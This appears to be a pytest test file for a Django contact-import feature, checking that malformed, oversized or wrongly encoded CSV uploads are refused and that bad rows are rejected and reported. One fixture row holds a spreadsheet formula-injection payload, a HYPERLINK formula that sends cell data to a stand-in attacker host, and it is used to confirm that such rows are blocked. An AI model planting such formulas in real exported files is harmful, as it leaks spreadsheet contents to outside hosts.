"""What a staff member uploading a file sees: bad files refused whole with a message, readable ones read right."""

import pytest

from contacts.imports.csvfile import MAX_COLUMNS, CsvRefused
from contacts.models import Contact, ContactImport

from .factories import ContactFieldFactory
from .imports import csv_bytes, import_file, uploaded

pytestmark = pytest.mark.django_db

EMAIL = {"email": "contact:email", "first_name": "contact:first_name", "last_name": "contact:last_name"}


@pytest.fixture(autouse=True)
def import_dir(settings, tmp_path):
    settings.IMPORT_DIR = tmp_path


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"\r\n\r\n", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "not a CSV"),
        ("email,first_name\r\nana@example.com,Ana\r\n".encode("utf-16"), "not a CSV"),
        (b"email,first_name\r\nana@example.com,\x81\x8d\x90\r\n", "neither UTF-8 nor Windows-1252"),
        (b"email,first_name\r\n", "header but no rows"),
        (b"email,first_name\r\n" + b",".join([b"x"] * 10_000) + b"\r\n", "columns"),
        (b"email,first_name\r\nana@example.com,\"Ana\r\n" + b"x" * 200_000, "cannot be read as CSV"),
    ],
    ids=["empty", "blank-lines", "binary", "utf-16", "wrong-encoding", "header-only", "10000-columns", "unclosed-quote"],
)
def test_a_file_that_cannot_be_imported_is_refused_with_a_reason_and_nothing_is_written(data, message):
    with pytest.raises(CsvRefused, match=message):
        uploaded(data)
    assert not ContactImport.objects.exists()
    assert not Contact.objects.exists()


def test_a_file_above_the_size_limit_is_refused(settings):
    settings.IMPORT_MAX_BYTES = 1000
    with pytest.raises(CsvRefused, match="larger than"):
        uploaded(csv_bytes("email", *(f"p{n}@example.com" for n in range(100))))
    assert not ContactImport.objects.exists()


def test_a_header_wider_than_the_limit_is_refused():
    with pytest.raises(CsvRefused, match=f"at most {MAX_COLUMNS}"):
        uploaded(csv_bytes(",".join(f"c{n}" for n in range(MAX_COLUMNS + 1)), ",".join("x" * (MAX_COLUMNS + 1))))


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (csv_bytes("email,first_name,last_name", "zoe@example.com,Zoé,Ärger", encoding="utf-8"), "utf-8-sig"),
        (csv_bytes("email,first_name,last_name", "zoe@example.com,Zoé,Ärger", encoding="utf-8-sig"), "utf-8-sig"),
        (csv_bytes("email;first_name;last_name", "zoe@example.com;Zoé;Ärger", encoding="cp1252"), "cp1252"),
    ],
    ids=["utf-8", "utf-8-bom", "windows-1252-semicolons"],
)
def test_utf8_bom_and_windows_1252_files_keep_their_accents(data, encoding):
    contact_import = import_file(data, EMAIL)
    assert contact_import.encoding == encoding
    contact = Contact.objects.get()
    assert (contact.email, contact.first_name, contact.last_name) == ("zoe@example.com", "Zoé", "Ärger")


def test_quoted_cells_keep_their_separators_quotes_and_line_breaks():
    data = csv_bytes(
        "email;first_name;last_name",
        'ana@example.com;"Ana; ""Nana""";"Line one',
        'line two"',
        "bob@example.com;Bob;Bee",
    )
    contact_import = import_file(data, EMAIL)
    assert contact_import.delimiter == ";"
    assert Contact.objects.get(email="ana@example.com").first_name == 'Ana; "Nana"'
    assert Contact.objects.get(email="ana@example.com").last_name == "Line one\r\nline two"
    assert Contact.objects.count() == 2


def test_a_row_with_a_formula_is_rejected_and_reported_while_the_others_are_imported():
    data = csv_bytes(
        "email,first_name",
        'eve@example.com,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
        "bob@example.com,Bob",
        "carl@example.com,@SUM(1+1)",
    )
    contact_import = import_file(data, EMAIL)
    assert list(Contact.objects.values_list("email", flat=True)) == ["bob@example.com"]
    problems = list(contact_import.problems.filter(phase="import").values_list("line", "column", "reason"))
    assert [(line, column) for line, column, _reason in problems] == [(2, "first_name"), (4, "first_name")]
    assert "formula" in problems[0][2]
    assert contact_import.import_counts["rejected"] == 2


def test_a_row_with_a_different_number_of_columns_is_rejected_with_its_line():
    contact_import = import_file(csv_bytes("email,first_name", "ana@example.com,Ana,extra", "bob@example.com,Bob"), EMAIL)
    assert list(Contact.objects.values_list("email", flat=True)) == ["bob@example.com"]
    problem = contact_import.problems.get(phase="import")
    assert problem.line == 2 and "3 columns" in problem.reason


def test_a_custom_field_value_repeated_on_many_rows_is_judged_the_same_on_each():
    ContactFieldFactory(key="employees", type="number")
    data = csv_bytes(
        "email,employees",
        "ana@example.com,12",
        "bob@example.com,lots",
        "carl@example.com,12",
        "dora@example.com,lots",
    )
    contact_import = import_file(data, {**EMAIL, "employees": "field:employees"})
    assert dict(Contact.objects.values_list("email", "fields")) == {
        "ana@example.com": {"employees": 12}, "carl@example.com": {"employees": 12}}
    problems = list(contact_import.problems.filter(phase="import").values_list("line", "column", "value", "reason"))
    assert [(line, column, value) for line, column, value, _reason in problems] == [
        (3, "employees", "lots"), (5, "employees", "lots")]
    assert all("Enter a number" in reason for *_rest, reason in problems)
